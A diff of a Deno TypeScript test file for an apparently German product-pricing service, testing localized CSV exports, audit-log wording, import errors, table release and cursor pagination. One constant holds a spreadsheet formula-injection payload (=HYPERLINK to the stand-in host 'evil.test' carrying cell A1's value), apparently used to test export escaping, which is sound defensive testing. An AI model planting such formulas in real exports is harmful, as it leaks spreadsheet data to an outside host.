@@ -1,9 +1,14 @@
 import { HOUR_MS } from "../../src/base/time.ts";
 import { deepStrictEqual as assertEquals, match, ok } from "node:assert/strict";
 import { type Columns, openListTable } from "../../src/catalogue/lists/list_file.ts";
-import { codeWords } from "../../src/engine/wording/code_words.ts";
+import {
+  codeCell,
+  codesCell,
+  codeWords,
+  storedCodeCell,
+} from "../../src/engine/wording/code_words.ts";
 import type { Caller } from "../caller.ts";
-import { csvCells, germanTime } from "../csv_cells.ts";
+import { csvCells, germanTime, sheetsOf } from "../read_table.ts";
 import {
   addProduct,
   addRule,
@@ -11,11 +16,16 @@ import {
   push,
   untilJudged,
 } from "../rules/evaluation/market.ts";
-import { startTestApp, type TestApp } from "../harness.ts";
+import { startTestApp, type TestApp, withApp } from "../harness.ts";
 import { startErp } from "../market/export/erp.ts";
-import { sheetsOf } from "../read_workbook.ts";
 import { ended, withScrapingApp } from "../scraping/scraping_app.ts";
-import { column, everyItem, refusalOf, refuses, valuesOf } from "./answers.ts";
+import { bodyOf, column, everyItem, refusalOf, refuses, valuesOf } from "./answers.ts";
+import type { Cell, OutgoingTable } from "../../src/platform/tables/cell.ts";
+import { tableResponse, worded } from "../../src/platform/tables/table_answer.ts";
+import { IMPORT, importXml, itemsXml } from "../imports/import_bench.ts";
+import { until } from "../patience.ts";
+import fc from "fast-check";
+import { extent } from "../proof.ts";
 
 const RUNS = '=HYPERLINK("http://evil.test/"&A1,"x")';
 
@@ -343,4 +353,273 @@ Deno.test("a list is read page by page, each once the previous one is used up", 
   assertEquals([(await batches.next()).done, asked], [true, [undefined, "1", "2", "3"]]);
   const none = { items: [], count: 0, nextCursor: null };
   assertEquals(await rowsOf(() => Promise.resolve(none)), [["line", "price"]]);
+});
+
+type Words = readonly (string | undefined)[];
+
+/**
+ * Requires the words of some cells in the first row: the code, the German and the English word.
+ * Returns a function that reads a cell.
+ */
+async function requireWords(caller: Caller, path: string, expected: Record<string, Words>) {
+  const rowsOf = async (query: string) => {
+    const answer = await caller.get(`${path}${path.includes("?") ? "&" : "?"}${query}`);
+    assertEquals(answer.status, 200, path);
+    return csvCells(await answer.text(), ";");
+  };
+  const [head = [], ...codes] = await rowsOf("");
+  const [[, ...german], [, ...english]] = [await rowsOf("lang=de"), await rowsOf("lang=en")];
+  const wordsIn = (row: number, column: string): Words =>
+    [codes, german, english].map((rows) => rows[row]?.[head.indexOf(column)]);
+  const found = Object.keys(expected).map((name) => [name, wordsIn(0, name)]);
+  assertEquals(Object.fromEntries(found), expected);
+  return wordsIn;
+}
+
+withApp.test("products have market words, the audit log actions, an import findings", async (app) => {
+  const made = { condition: "refurbished", scrapeEnabled: false };
+  const id = await addProduct(app.manager, "A-1", made);
+  await push(app, [["A-1", "acme", 90]]);
+
+  const columns = "sku,condition,scrapeEnabled,state,position,cheapestMatchType,cheapestInStock";
+  await requireWords(app.viewer, `/api/products.csv?columns=${columns}`, {
+    sku: ["A-1", "A-1", "A-1"],
+    condition: ["refurbished", "generalüberholt", "refurbished"],
+    scrapeEnabled: ["false", "nein", "no"],
+    state: ["ok", "verglichen", "compared"],
+    position: ["dearest", "teuerster", "most expensive"],
+    cheapestMatchType: ["exact", "dasselbe Produkt", "the same product"],
+    cheapestInStock: ["true", "ja", "yes"],
+  });
+
+  app.clock.advance(60_000);
+  await requireWords(app.viewer, `/api/products/${id}/price-evidence.csv`, {
+    source: ["api", "Eingabe oder API", "Entered or API"],
+    isCounted: ["true", "ja", "yes"],
+  });
+
+  await app.manager.change(`/api/products/${id}`, { title: "Neu" });
+  const audit = await requireWords(app.viewer, "/api/audit-logs.csv", {
+    action: ["product.update", "geändert", "changed"],
+    resourceType: ["product", "Produkt", "Product"],
+    actorType: ["user", "Person", "Person"],
+  });
+
+  // Times are in the workspace's time zone for people, in UTC for programs.
+  const [at = ""] = audit(0, "at");
+  const day = Temporal.Instant.from(at).toZonedDateTimeISO("Europe/Berlin").toPlainDate();
+  assertEquals(audit(0, "at").slice(1).map((text) => text?.slice(0, 10)), [
+    day.toString().split("-").toReversed().join("."),
+    day.toString(),
+  ]);
+
+  const history = `/api/products/${id}/price-history`;
+  const { items: [entry] } = await app.viewer.read(history);
+  const mark = (isError: boolean) =>
+    app.manager.act(`${history}/${entry.at}/mark`, { isError, reason: "Tippfehler" });
+  await mark(true);
+  await mark(false);
+  const marks = await requireWords(app.viewer, "/api/audit-logs.csv?action=product.mark", {
+    action: ["product.mark", "Kennzeichnung zurückgenommen", "mark removed"],
+  });
+  assertEquals(marks(1, "action")[1], "im Preisverlauf gekennzeichnet");
+
+  const key = await app.key(["products:write"]);
+  const { data } = await importXml(key, itemsXml([{ sku: "B", price: "1,00" }]));
+  const { jobId } = data;
+  // Each row also has an English message. So English files keep the code, and German files have a
+  // German sentence instead.
+  await requireWords(app.viewer, `/api/imports/${jobId}/errors?format=csv`, {
+    severity: ["error", "Fehler", "error"],
+    code: ["missing_title", "Ein neues Produkt braucht einen Titel.", "missing_title"],
+  });
+  await requireWords(key, `${IMPORT}/${jobId}/errors?format=csv`, {
+    code: ["missing_title", "missing_title", "missing_title"],
+  });
+});
+
+Deno.test("a coded cell is a code for programs and a word for people; an unknown code stays", () => {
+  const textsOf = (cell: ReturnType<typeof codeCell>) =>
+    cell && [cell.plain, cell.textIn("de"), cell.textIn("en")];
+  const answer = "The server answered 500";
+  const cases = [
+    [codeCell("proposalStatuses", "rolled_back"), "rolled_back", "zurückgenommen", "rolled back"],
+    [codesCell("days", ["mon", "sun"]), "mon sun", "Mo, So", "Mon, Sun"],
+    [storedCodeCell("scrapeErrors", "of_tomorrow"), "of_tomorrow", "of_tomorrow", "of_tomorrow"],
+    [storedCodeCell("pullErrors", "http_500", answer), "http_500", answer, answer],
+  ] as const;
+  for (const [cell, ...texts] of cases) assertEquals(textsOf(cell), texts);
+  assertEquals(textsOf(codeCell("proposalStatuses", null)), null);
+  // Names that every object inherits, such as `toString`, are no words.
+  assertEquals(textsOf(storedCodeCell("scrapeErrors", "toString"))?.[1], "toString");
+});
+
+/** A table that records whether its reader has released it. */
+function heldTable(rows: readonly (readonly Cell[])[]) {
+  const state = { isLetGo: false };
+  const batches = {
+    next: () => Promise.resolve({ done: false, value: rows } as const),
+    return() {
+      state.isLetGo = true;
+      return Promise.resolve({ done: true, value: undefined } as const);
+    },
+    [Symbol.asyncIterator]() {
+      return this;
+    },
+  };
+  const table: OutgoingTable = { name: "t", columns: ["a"], headingsIn: () => ["A"], batches };
+  return { state, table };
+}
+
+Deno.test("a table with words is released if its reader stops before or after the first row", async () => {
+  const form = { format: "csv", dialect: "rfc4180", timeZone: "UTC" } as const;
+  const unread = heldTable([]);
+  await worded(unread.table, "de", null).batches[Symbol.asyncIterator]().return?.();
+  assertEquals(unread.state.isLetGo, true);
+  for (const chunks of [1, 2]) {
+    const { state, table } = heldTable([[true], ["=1"]]);
+    const answer = tableResponse(worded(table, "de", null), form);
+    const reader = answer.body!.getReader();
+    for (let n = 0; n < chunks; n++) {
+      const { value } = await reader.read();
+      const text = new TextDecoder().decode(value);
+      assertEquals(text, n === 0 ? '"A"\r\n' : '"ja"\r\n"\'=1"\r\n');
+    }
+    await reader.cancel();
+    await until(`let go after ${chunks}`, () => state.isLetGo);
+  }
+});
+
+const BRANDS = ["Bosch", "BOSCH Siemens", "Miele", null] as const;
+const CATEGORIES = ["Bad", "Badmöbel", "Küche", null] as const;
+const TIERS = ["A", "B", null] as const;
+
+type Fields = Readonly<Record<"brand" | "category" | "tier", string | null>>;
+
+interface Listed extends Fields {
+  readonly id: string;
+  readonly sku: string;
+  updatedAt: string;
+  isDeleted: boolean;
+}
+
+const fields: fc.Arbitrary<Fields> = fc.record({
+  brand: fc.constantFrom(...BRANDS),
+  category: fc.constantFrom(...CATEGORIES),
+  tier: fc.constantFrom(...TIERS),
+});
+
+type FilterName = keyof Fields | "q" | "sku" | "includeDeleted" | "updatedSince";
+type Filter = Partial<Record<FilterName, string>>;
+
+const includeDeleted = fc.constant("true");
+const optional = { requiredKeys: [] };
+const filter: fc.Arbitrary<Filter> = fc.oneof(
+  fc.record({
+    brand: fc.constantFrom("bosch", "SIEM", "e", "nobody"),
+    category: fc.constantFrom("BAD", "möbel", "Küche"),
+    tier: fc.constantFrom("A", "B"),
+  }, optional),
+  fc.record({ includeDeleted, brand: fc.constantFrom("bosch", "e") }, optional),
+  fc.record({ includeDeleted, q: fc.constantFrom("1", "sku-2"), tier: fc.constant("A") }, optional),
+  fc.record({ includeDeleted, sku: fc.constantFrom("SKU-1", "SKU-2") }, optional),
+);
+
+/** A change by another caller before a page; `at` selects an existing product. */
+type Step =
+  | { readonly does: "create"; readonly fields: Fields }
+  | { readonly does: "delete"; readonly at: number }
+  | { readonly does: "restore"; readonly at: number }
+  | { readonly does: "change"; readonly at: number; readonly fields: Fields };
+
+const at = fc.nat(1_000);
+const step: fc.Arbitrary<Step> = fc.oneof(
+  fc.record({ does: fc.constant("create" as const), fields }),
+  fc.record({ does: fc.constant("delete" as const), at }),
+  fc.record({ does: fc.constant("restore" as const), at }),
+  fc.record({ does: fc.constant("change" as const), at, fields }),
+);
+
+const plan = fc.record({
+  products: fc.array(fields, { maxLength: extent(40, 20), size: "max" }),
+  filter,
+  /** Selects an existing product, whose last change is the `updatedSince` of the list. */
+  since: fc.option(at),
+  limit: fc.integer({ min: 1, max: 12 }),
+  steps: fc.array(fc.array(step, { maxLength: 4 }), { maxLength: 20, size: "max" }),
+});
+
+/** A list that is kept twice: as an array in creation order, and in the service. */
+class Shop {
+  readonly #listed: Listed[] = [];
+
+  constructor(private readonly app: TestApp, private readonly owner: Caller) {}
+
+  /** When the selected product was last changed. */
+  changedAt(at: number): string | undefined {
+    return this.#listed[at % this.#listed.length]?.updatedAt;
+  }
+
+  async create(given: Fields): Promise<void> {
+    this.app.clock.advance(1_000);
+    const made = { sku: `SKU-${this.#listed.length}`, title: "t", ...given };
+    const { id, updatedAt } = await this.owner.create("/api/products", made);
+    this.#listed.push({ id, updatedAt, ...made, isDeleted: false });
+  }
+
+  async take(step: Step): Promise<void> {
+    this.app.clock.advance(1_000);
+    if (step.does === "create") return await this.create(step.fields);
+    const product = this.#listed[step.at % this.#listed.length];
+    if (!product) return;
+    const path = `/api/products/${product.id}`;
+    if (step.does === "restore") {
+      await this.owner.act(`${path}/restore`);
+      product.isDeleted = false;
+    } else if (step.does === "delete") {
+      await bodyOf(this.owner.delete(path), product.isDeleted ? 404 : 200);
+      product.isDeleted = true;
+    } else if (!product.isDeleted) {
+      await this.owner.change(path, step.fields);
+      Object.assign(product, step.fields);
+    }
+    product.updatedAt = (await this.owner.read(`${path}?includeDeleted=true`)).updatedAt;
+  }
+
+  /** Ids of the products that match, in order. */
+  fitting({ brand, category, tier, q, sku, includeDeleted, updatedSince = "" }: Filter): string[] {
+    const holds = (text: string | null, part: string | undefined) =>
+      part === undefined || (text ?? "").toLowerCase().includes(part.toLowerCase());
+    return this.#listed.filter((product) =>
+      (includeDeleted || !product.isDeleted) && product.updatedAt >= updatedSince &&
+      holds(product.brand, brand) && holds(product.category, category) && holds(product.sku, q) &&
+      (tier === undefined || product.tier === tier) && (sku === undefined || product.sku === sku)
+    ).map(({ id }) => id);
+  }
+}
+
+withApp.test("every page of a list continues after the previous one, despite changes by others", async (app) => {
+  await fc.assert(
+    fc.asyncProperty(plan, async ({ products, filter: fields, since, limit, steps }) => {
+      const owner = await app.strangerOwner();
+      const shop = new Shop(app, owner);
+      for (const product of products) await shop.create(product);
+      const updatedSince = since === null ? undefined : shop.changedAt(since);
+      const filter = { ...fields, ...(updatedSince && { updatedSince }) };
+      const query = new URLSearchParams({ ...filter, limit: String(limit) });
+      let last = "";
+      for (let page = 0;; page++) {
+        for (const step of steps[page] ?? []) await shop.take(step);
+        const { items, nextCursor, count } = await owner.read(`/api/products?${query}`);
+        const ids = column(items, "id");
+        const left = shop.fitting(filter).filter((id) => id > last);
+        assertEquals([ids, count], [left.slice(0, limit), Math.min(limit, left.length)]);
+        assertEquals(nextCursor === null, left.length <= limit);
+        if (nextCursor === null) break;
+        last = ids.at(-1)!;
+        query.set("cursor", nextCursor);
+      }
+    }),
+    { numRuns: extent(80, 40) },
+  );
 });
